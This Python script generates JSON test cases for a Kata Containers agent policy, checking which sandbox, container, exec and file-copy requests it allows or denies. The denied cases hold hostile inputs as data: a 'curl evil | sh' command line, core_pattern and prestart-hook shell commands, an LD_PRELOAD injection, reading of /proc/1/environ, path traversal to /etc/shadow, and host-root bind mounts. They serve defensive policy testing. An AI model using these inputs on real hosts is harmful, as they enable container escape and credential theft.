#!/usr/bin/env python3
"""Writes the testcases.json files of agent/tests/policy/ (kata genpolicy test format).
Run from this directory after changing a case: python3 gen_cases.py"""
import json, copy
SHARED = "/run/kata-containers/shared/containers/"
CAPS = ["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_FSETID","CAP_FOWNER","CAP_MKNOD","CAP_NET_RAW","CAP_SETGID","CAP_SETUID","CAP_SETFCAP","CAP_SETPCAP","CAP_NET_BIND_SERVICE","CAP_SYS_CHROOT","CAP_KILL","CAP_AUDIT_WRITE"]
def oci(cid, name="app", args=None, env=None):
    return {
      "Version": "1.1.0",
      "Annotations": {"io.kubernetes.cri.container-name": name, "io.kubernetes.cri.container-type": "container",
                      "io.kubernetes.cri.sandbox-name": "web-7d9c", "io.kubernetes.cri.sandbox-namespace": "default"},
      "Process": {"Terminal": False, "User": {"UID": 1000, "GID": 1000}, "Args": args or ["/app/server", "--port=8080"],
                  "Env": env or ["PATH=/usr/local/bin:/usr/bin:/bin", "HOSTNAME=web-7d9c"], "Cwd": "/",
                  "Capabilities": {"Bounding": list(CAPS), "Effective": list(CAPS), "Permitted": list(CAPS), "Inheritable": [], "Ambient": []},
                  "NoNewPrivileges": True},
      "Root": {"Path": f"/run/kata-containers/{cid}/rootfs", "Readonly": False},
      "Hostname": "web-7d9c",
      "Mounts": [
        {"destination": "/proc", "source": "proc", "type_": "proc", "options": ["nosuid", "noexec", "nodev"]},
        {"destination": "/dev", "source": "tmpfs", "type_": "tmpfs", "options": ["nosuid", "strictatime", "mode=755", "size=65536k"]},
        {"destination": "/dev/pts", "source": "devpts", "type_": "devpts", "options": ["nosuid", "noexec", "newinstance", "ptmxmode=0666", "mode=0620", "gid=5"]},
        {"destination": "/dev/mqueue", "source": "mqueue", "type_": "mqueue", "options": ["nosuid", "noexec", "nodev"]},
        {"destination": "/sys", "source": "sysfs", "type_": "sysfs", "options": ["nosuid", "noexec", "nodev", "ro"]},
        {"destination": "/sys/fs/cgroup", "source": "cgroup", "type_": "cgroup", "options": ["nosuid", "noexec", "nodev", "relatime", "ro"]},
        {"destination": "/etc/hosts", "source": SHARED + f"{cid}-4b6c-hosts", "type_": "bind", "options": ["rbind", "rprivate", "rw"]},
        {"destination": "/dev/shm", "source": "/run/kata-containers/sandbox/shm", "type_": "bind", "options": ["rbind"]},
      ],
      "Linux": {"Namespaces": [{"Type": "ipc", "Path": ""}, {"Type": "uts", "Path": ""}, {"Type": "mount", "Path": ""}],
                "MaskedPaths": ["/proc/kcore", "/proc/keys"], "ReadonlyPaths": ["/proc/sys", "/proc/sysrq-trigger"]},
    }
def create(cid, **kw):
    return copy.deepcopy(create_(cid, **kw))
def create_(cid, **kw):
    return {"container_id": cid, "exec_id": cid, "OCI": oci(cid, **kw),
            "storages": [{"driver": "image_guest_pull", "driver_options": ["image_guest_pull={\"metadata\":{}}"],
                          "source": "registry.example/app:1.0", "fstype": "overlay", "options": [],
                          "mount_point": f"/run/kata-containers/{cid}/rootfs"}]}
def case(desc, allowed, kind, req, msg=None):
    c = {"description": desc, "allowed": allowed, "kind": kind, "request": req}
    if msg: c["message_contains"] = msg
    return c
def mutate(cid, f):
    r = create(cid); f(r); return r

conf = [
  case("kata-shaped CreateSandbox with the ephemeral shm storage", True, "CreateSandboxRequest",
       {"sandbox_id": "s1", "hostname": "web-7d9c", "sandbox_pidns": False,
        "storages": [{"driver": "ephemeral", "source": "shm", "fstype": "tmpfs", "options": ["noexec", "nosuid", "nodev", "mode=1777", "size=67108864"],
                      "mount_point": "/run/kata-containers/sandbox/shm"}]}),
  case("CreateSandbox with a bind storage over the agent's /etc", False, "CreateSandboxRequest",
       {"sandbox_id": "s1", "storages": [{"driver": "bind", "source": "/secret", "mount_point": "/etc", "fstype": "bind"}]},
       "storage bind /secret -> /etc is not allowed"),
  case("CreateSandbox with a guest hook path", False, "CreateSandboxRequest", {"sandbox_id": "s1", "guest_hook_path": "/usr/share/oci/hooks"}, "guest_hook_path"),
  case("CreateSandbox loading kernel modules", False, "CreateSandboxRequest", {"sandbox_id": "s1", "kernel_modules": [{"name": "nf_tables", "parameters": []}]}, "kernel_modules"),
  case("kata-shaped CreateContainer with a guest-pulled image", True, "CreateContainerRequest", create("c1")),
  case("CreateContainer with the image's own busybox rootfs (the demo)", True, "CreateContainerRequest",
       mutate("hello", lambda r: (r["OCI"].__setitem__("Root", {"Path": "/usr/share/cvm/busybox", "Readonly": True}), r.__setitem__("storages", [])))),
  case("CreateContainer with a read-write bind mount of the guest's /", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["OCI"]["Mounts"].append({"destination": "/host", "source": "/", "type_": "bind", "options": ["rbind", "rw"]})),
       "mount bind / -> /host"),
  case("CreateContainer with a bind source that climbs out of the shared tree", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["OCI"]["Mounts"].append({"destination": "/x", "source": SHARED + "../../../etc", "type_": "bind", "options": ["rbind"]})),
       "is not allowed"),
  case("CreateContainer with the root filesystem at the guest's /", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["OCI"]["Root"].__setitem__("Path", "/")), "root path \"/\" is not allowed"),
  case("CreateContainer joining the agent's pid namespace", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["OCI"]["Linux"]["Namespaces"].append({"Type": "pid", "Path": "/proc/1/ns/pid"})),
       "namespace path pid \"/proc/1/ns/pid\""),
  case("CreateContainer joining the agent's network namespace", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["OCI"]["Linux"]["Namespaces"].append({"Type": "network", "Path": "/proc/self/ns/net"})),
       "namespace path network"),
  case("CreateContainer mounting devtmpfs", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["OCI"]["Mounts"].append({"destination": "/hostdev", "source": "devtmpfs", "type_": "devtmpfs", "options": []})),
       "mount devtmpfs"),
  case("CreateContainer mounting sysfs read-write", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["OCI"]["Mounts"].__setitem__(4, {"destination": "/sys", "source": "sysfs", "type_": "sysfs", "options": ["nosuid", "rw"]})),
       "mount sysfs sysfs -> /sys"),
  case("CreateContainer with a tmpfs over /proc/sys", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["OCI"]["Mounts"].append({"destination": "/proc/sys", "source": "tmpfs", "type_": "tmpfs", "options": []})),
       "mount tmpfs"),
  case("CreateContainer writing kernel.core_pattern", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["OCI"]["Linux"].__setitem__("Sysctl", {"kernel.core_pattern": "|/bin/sh -c id"})),
       "sysctl kernel.core_pattern is not allowed"),
  case("CreateContainer with a Kubernetes safe sysctl", True, "CreateContainerRequest",
       mutate("c3", lambda r: r["OCI"]["Linux"].__setitem__("Sysctl", {"net.ipv4.ping_group_range": "0 2147483647"}))),
  case("CreateContainer with a prestart hook", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["OCI"].__setitem__("Hooks", {"Prestart": [{"Path": "/bin/sh", "Args": ["sh", "-c", "id"], "Env": [], "Timeout": 0}]})),
       "OCI hooks are not allowed"),
  case("CreateContainer with a device node", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["OCI"]["Linux"].__setitem__("Devices", [{"Path": "/dev/vda", "Type": "b", "Major": 254, "Minor": 0}])),
       "devices are not allowed"),
  case("CreateContainer with CAP_SYS_ADMIN", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["OCI"]["Process"]["Capabilities"]["Bounding"].append("CAP_SYS_ADMIN")),
       "capability CAP_SYS_ADMIN (Bounding)"),
  case("CreateContainer with a bind storage driver", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["storages"].append({"driver": "bind", "source": "/", "mount_point": "/run/kata-containers/c2/host"})),
       "storage bind"),
  case("CreateContainer with a storage mounted outside /run/kata-containers", False, "CreateContainerRequest",
       mutate("c2", lambda r: r["storages"].append({"driver": "local", "source": "", "mount_point": "/etc/cron.d"})),
       "storage local -> /etc/cron.d"),
  case("ExecProcess as root with no capabilities field", False, "ExecProcessRequest",
       {"container_id": "c1", "exec_id": "sh", "process": {"Args": ["/bin/sh", "-c", "cat /proc/1/environ"], "User": {"UID": 0, "GID": 0}, "Cwd": "/", "Env": []}}),
  case("ReadStdout of the container's own process", True, "ReadStreamRequest", {"container_id": "c1", "exec_id": "c1", "len": 1024}),
  case("ReadStdout of an exec'd process", False, "ReadStreamRequest", {"container_id": "c1", "exec_id": "sh", "len": 1024}),
  case("WriteStdin", False, "WriteStreamRequest", {"container_id": "c1", "exec_id": "c1", "data": list(b"id\n")}),
  case("CopyFile of /etc/hosts into the shared tree", True, "CopyFileRequest",
       {"path": SHARED + "c1-4b6c-hosts", "file_type": "Regular", "file_mode": 0o644}),
  case("CopyFile of a ConfigMap symlink inside the shared tree", True, "CopyFileRequest",
       {"path": SHARED + "c1-cm/..data", "file_type": "Symlink", "symlink_target": "..2026_12_07_01_00_00.1"}),
  case("CopyFile over the agent's /etc/passwd", False, "CopyFileRequest", {"path": "/etc/passwd", "file_type": "Regular"}),
  case("CopyFile climbing out of the shared tree", False, "CopyFileRequest", {"path": SHARED + "../../../etc/shadow", "file_type": "Regular"}),
  case("CopyFile of a symlink to an absolute guest path", False, "CopyFileRequest",
       {"path": SHARED + "c1-cm/x", "file_type": "Symlink", "symlink_target": "/etc/shadow"}),
  case("SetPolicy", False, "SetPolicyRequest", {"policy": "package agent_policy\ndefault ExecProcessRequest := true\n"}),
  case("SetGuestDateTime", False, "SetGuestDateTimeRequest", {"Sec": 0, "Usec": 0}),
  case("MemHotplugByProbe", False, "MemHotplugByProbeRequest", {"memHotplugProbeAddr": [4294967296]}),
  case("OnlineCPUMem", False, "OnlineCPUMemRequest", {"wait": False, "nb_cpus": 2, "cpu_only": True}),
  case("UpdateInterface (the host owns the pod network)", True, "UpdateInterfaceRequest",
       {"interface": {"device": "eth0", "name": "eth0", "IPAddresses": [{"family": 0, "address": "10.244.1.7", "mask": "24"}], "mtu": 1450, "hwAddr": "02:c0:ff:ee:00:17", "devicePath": "", "type_": "", "raw_flags": 0}}),
  case("StartContainer", True, "StartContainerRequest", {"container_id": "c1"}),
  case("RemoveContainer", True, "RemoveContainerRequest", {"container_id": "c1", "timeout": 0}),
]
json.dump(conf, open("confidential/testcases.json", "w"), indent=1)

# The pod policy's cases: state across requests.
pod = [
  case("exec before the container exists", False, "ExecProcessRequest",
       {"container_id": "web", "exec_id": "e1", "process": {"Args": ["/bin/health-check"]}}),
  case("the pod's web container", True, "CreateContainerRequest", create("web", name="web")),
  case("the same container id a second time", False, "CreateContainerRequest", create("web", name="web"), "already created"),
  case("a container the pod does not have", False, "CreateContainerRequest", create("miner", name="miner"), "no container of the pod matches"),
  case("the web container with another command line", False, "CreateContainerRequest",
       create("web2", name="web", args=["/bin/sh", "-c", "curl evil | sh"])),
  case("the web container with an env value the policy pins", True, "CreateContainerRequest",
       create("web3", name="web", env=["PATH=/usr/local/bin:/usr/bin:/bin", "HOSTNAME=web-7d9c", "POD_IP=10.244.1.7"])),
  case("an env variable the policy does not know", False, "CreateContainerRequest",
       create("web4", name="web", env=["PATH=/usr/local/bin:/usr/bin:/bin", "LD_PRELOAD=/tmp/x.so"])),
  case("the exec the pod's spec declares", True, "ExecProcessRequest",
       {"container_id": "web", "exec_id": "e1", "process": {"Args": ["/bin/health-check"]}}),
  case("any other exec", False, "ExecProcessRequest",
       {"container_id": "web", "exec_id": "e2", "process": {"Args": ["/bin/sh"]}}, "no declared exec"),
  case("removing the web container", True, "RemoveContainerRequest", {"container_id": "web", "timeout": 0}),
  case("exec after removal", False, "ExecProcessRequest",
       {"container_id": "web", "exec_id": "e1", "process": {"Args": ["/bin/health-check"]}}),
  case("the web container id again after removal", True, "CreateContainerRequest", create("web", name="web")),
  case("a ConfigMap file of the pod", True, "CopyFileRequest",
       {"path": SHARED + "web-5f2a-cm-settings/..2026_12_07_01_00_00.1/app.yaml", "file_type": "Regular"}),
  case("a file of another pod's layout", False, "CopyFileRequest", {"path": SHARED + "other/app.yaml", "file_type": "Regular"}),
]
json.dump(pod, open("pod/testcases.json", "w"), indent=1)

kinds = ["CreateSandboxRequest","ExecProcessRequest","ReadStreamRequest","WriteStreamRequest","CopyFileRequest","SetGuestDateTimeRequest","OnlineCPUMemRequest","GetMetricsRequest"]
aa = [case(f"{k} under allow-all", True, k, {} if k != "CopyFileRequest" else {"path": "/nonexistent/x", "file_type": "Regular"}) for k in kinds if k != "ReadStreamRequest"]
json.dump(aa, open("allow-all/testcases.json", "w"), indent=1)
